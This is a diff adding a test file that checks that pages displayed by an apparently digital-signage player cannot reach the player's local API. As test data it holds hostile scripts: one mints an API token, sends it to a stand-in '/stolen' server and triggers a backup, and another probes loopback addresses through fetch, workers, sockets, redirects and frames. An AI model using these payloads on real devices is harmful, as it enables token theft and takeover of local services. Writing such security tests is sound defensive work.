@@ -1,0 +1,238 @@
+// No page on the glass reaches the player's own interface, whatever it tries.
+
+import { readFileSync } from "node:fs";
+import { hostname } from "node:os";
+import { describe, expect, it } from "vitest";
+import { colouredPage, picture, type Colour } from "../support/media.ts";
+import {
+  sharedScreen,
+  problemOf,
+  startAlone,
+} from "../support/shared-screen.ts";
+import { isNear, meanOf, type Frame } from "../support/screen.ts";
+import type { RunningApp } from "../support/start-app.ts";
+import { serveWeb, type WebServer } from "../support/web-server.ts";
+
+const green: Colour = [30, 160, 60];
+const blue: Colour = [40, 60, 200];
+
+const shows = (colour: Colour) => (frame: Frame) =>
+  isNear(meanOf(frame), colour);
+
+const one = sharedScreen({ start: startAlone });
+
+/** How many requests the interface has answered but for its own figures. */
+async function answered({ api }: RunningApp): Promise<number> {
+  const figures = await (await fetch(`${api}/api/v2/metrics`)).text();
+  return figures
+    .split("\n")
+    .filter((line) => line.startsWith("vitrine_requests_total{"))
+    .filter((line) => !line.includes("metrics"))
+    .reduce((sum, line) => sum + Number(line.split(" ").at(-1)), 0);
+}
+
+async function at(app: RunningApp, path: string): Promise<unknown> {
+  return (await fetch(`${app.api}/api/v2${path}`)).json();
+}
+
+/** A name that leads here and is not this machine's own; most machines have one of their own in that file. */
+function otherNameHere(): string | null {
+  const names = readFileSync("/etc/hosts", "utf8")
+    .split("\n")
+    .map((line) => line.replace(/#.*/, "").trim().split(/\s+/))
+    .filter(([address]) => address?.startsWith("127."))
+    .flatMap(([, ...listed]) => listed);
+  return (
+    names.find(
+      (name) => name !== hostname() && !/^localhost(\.|$)/.test(name),
+    ) ?? null
+  );
+}
+
+/** Answers what was reported to it under this path. */
+async function reportTo(web: WebServer, path: string): Promise<string> {
+  const sent = () =>
+    web.requests.find(({ url }) => url.startsWith(`${path}?`))?.url;
+  await expect.poll(sent).toBeDefined();
+  return decodeURIComponent(String(sent()).slice(path.length + 1));
+}
+
+/** Of these a page does not learn what came of them. */
+const waysWithoutAnswer = [
+  "beacon",
+  "iframe",
+  "video",
+  "embed",
+  "object",
+  "form",
+];
+
+/** Each of the ways in which a page asks for something, tried at each address; then what came of it is reported. */
+const tryEverything = (targets: readonly string[], redirect: string) => `
+  const answerOf = async (ask) => {
+    try { const answer = await ask(); return "reached " + (answer?.type ?? answer); } catch { return "kept away"; }
+  };
+  const element = (name, address) => new Promise((done, fail) => {
+    const made = document.createElement(name);
+    made.onload = () => done(name); made.onerror = fail;
+    made.rel = "stylesheet"; made[name === "link" ? "href" : "src"] = address;
+    document.body.append(made);
+  });
+  const inWorker = (address) => new Promise((done, fail) => {
+    const code = 'fetch("' + address + '", { mode: "no-cors" }).then(() => postMessage("in"), () => postMessage(""))';
+    const worker = new Worker(URL.createObjectURL(new Blob([code])));
+    worker.onerror = fail;
+    worker.onmessage = ({ data }) => data === "" ? fail() : done("worker");
+  });
+  const inServiceWorker = (address) => new Promise((done, fail) => {
+    navigator.serviceWorker.onmessage = ({ data }) => data === "" ? fail() : done("service worker");
+    navigator.serviceWorker.register("/worker.js", { scope: "/" })
+      .then(() => navigator.serviceWorker.ready)
+      .then(({ active }) => active.postMessage(address))
+      .catch(fail);
+  });
+  const socket = (address) => new Promise((done, fail) => {
+    const made = new WebSocket(address.replace(/^http/, "ws"));
+    made.onopen = () => done("socket"); made.onerror = fail;
+  });
+  const tryWithoutAnswer = (addressOf) => {
+    navigator.sendBeacon(addressOf("beacon"), "{}");
+    for (const name of ${JSON.stringify(waysWithoutAnswer)}.slice(1, -1)) {
+      const made = document.createElement(name);
+      made.src = made.data = addressOf(name);
+      document.body.append(made);
+    }
+    const form = document.createElement("form");
+    form.method = "post"; form.action = addressOf("form"); form.target = "held";
+    document.body.append(form);
+    form.submit();
+  };
+  (async () => {
+    const found = {};
+    for (const address of ${JSON.stringify([...targets, redirect])}) {
+      const next = address + (address.includes("?") ? "" : "/api/v2/assets/control/next");
+      const all = await Promise.all([
+        answerOf(() => fetch(next, { mode: "no-cors" })),
+        answerOf(() => fetch(next, { mode: "no-cors", keepalive: true, method: "POST", body: "{}" })),
+        answerOf(() => inWorker(next)),
+        answerOf(() => element("script", next)),
+        answerOf(() => element("link", next)),
+        answerOf(() => element("img", next)),
+        answerOf(() => socket(next)),
+        answerOf(() => inServiceWorker(next)),
+      ]);
+      tryWithoutAnswer(() => next);
+      found[address] = all;
+    }
+    // Once the page's own server has been asked in each of these ways, the player's would have been.
+    tryWithoutAnswer((name) => "/tried/" + name);
+    while (!(await fetch("/is-all-tried")).ok);
+    await fetch("${"/report?"}" + encodeURIComponent(JSON.stringify(found)));
+    location = "/done";
+  })();`;
+
+const serviceWorker = `
+  onmessage = ({ data, source }) =>
+    fetch(data, { mode: "no-cors" }).then(() => source.postMessage("in"), () => source.postMessage(""));`;
+
+describe("a page on the glass", () => {
+  it("[V2-451] reaches the player's interface by no address, name, redirect, frame, worker or socket", async () => {
+    const { app, screenWatch } = one;
+    const { port } = new URL(app.api);
+    const other = otherNameHere();
+    const web = await serveWeb({
+      "/page": `${colouredPage(blue)}<iframe name="held"></iframe><script>window.onload = () => { ${tryEverything(
+        [
+          ...["127.0.0.1", "localhost", "0.0.0.0", "any.localhost"],
+          ...["[::1]", "[::ffff:127.0.0.1]", "127.1.2.3", hostname()],
+          ...(other === null ? [] : [other]),
+        ].map((host) => `http://${host}:${port}`),
+        "/aside?",
+      )} }</script>`,
+      "/worker.js": (response) =>
+        response
+          .setHeader("Content-Type", "text/javascript")
+          .end(serviceWorker),
+      "/aside": { to: `${app.api}/api/v2/assets/control/next` },
+      "/is-all-tried": (response) => {
+        const isTried = (name: string): boolean =>
+          web.requests.some(({ url }) => url === `/tried/${name}`);
+        response.writeHead(waysWithoutAnswer.every(isTried) ? 204 : 404).end();
+      },
+      "/report": 204,
+      "/done": colouredPage(green),
+    });
+    await app.add({ name: "hostile", uri: `${web.address}/page` });
+    const before = await answered(app);
+    const found = JSON.parse(await reportTo(web, "/report")) as Record<
+      string,
+      readonly string[]
+    >;
+    await screenWatch.until(shows(green), "the page when it is done");
+    expect(
+      Object.entries(found).filter(([, answers]) =>
+        answers.some((answer) => answer !== "kept away"),
+      ),
+    ).toEqual([]);
+    expect(await answered(app)).toBe(before);
+  });
+
+  it("[V2-451] that is the player's own is not loaded, so that its script makes no token and takes no backup", async () => {
+    const { app, screenWatch } = one;
+    const { port } = new URL(app.api);
+    const web = await serveWeb({
+      "/aside": { to: `${app.api}/api/docs` },
+      "/stolen": 204,
+    });
+    await app.addFile(picture(green, 1280, 720), {
+      ...{ name: "green", mimetype: "image", duration: 1 },
+    });
+    const js_injection = `fetch("/api/v2/tokens", { method: "POST", headers: { "Content-Type": "application/json" }, body: '{"name":"stolen"}' })
+      .then((answer) => answer.text())
+      .then((text) => new Image().src = "${web.address}/stolen?" + encodeURIComponent(text));
+      fetch("/api/v2/backup", { method: "POST" });`;
+    const hostile = await Promise.all(
+      [
+        `${app.api}/api/docs`,
+        `http://localhost:${port}/api/docs`,
+        `http://${hostname()}:${port}/api/docs`,
+        `${web.address}/aside`,
+      ].map((uri, index) =>
+        app.add({
+          ...{ name: `hostile ${index}`, uri, js_injection, duration: 1 },
+          skip_asset_check: true,
+        }),
+      ),
+    );
+    await screenWatch.until(shows(green), "the picture");
+    for (const { asset_id: id } of hostile)
+      await expect.poll(() => problemOf(app, id)).not.toBe("");
+    expect(await at(app, "/tokens")).toEqual([]);
+    expect(await at(app, "/backups")).toEqual([]);
+    expect(web.requests.filter(({ url }) => url.startsWith("/stolen"))).toEqual(
+      [],
+    );
+  });
+
+  it("[V2-450][V2-451] whose server sends it on to the player's control does not step it", async () => {
+    const { app, screenWatch } = one;
+    const web = await serveWeb({
+      "/aside": { to: `${app.api}/api/v2/assets/control/next` },
+    });
+    await app.addFile(picture(green, 1280, 720), {
+      ...{ name: "green", mimetype: "image", duration: 2 },
+    });
+    await screenWatch.until(shows(green), "the picture");
+    const before = await answered(app);
+    const page = await app.add({
+      ...{ name: "aside", uri: `${web.address}/aside`, duration: 2 },
+      skip_asset_check: true,
+    });
+    await expect
+      .poll(() => web.requests.some(({ url }) => url === "/aside"))
+      .toBe(true);
+    // Its creation, and nothing else.
+    expect(await answered(app)).toBe(before + 1);
+    await expect.poll(() => problemOf(app, page.asset_id)).not.toBe("");
+  });
+});
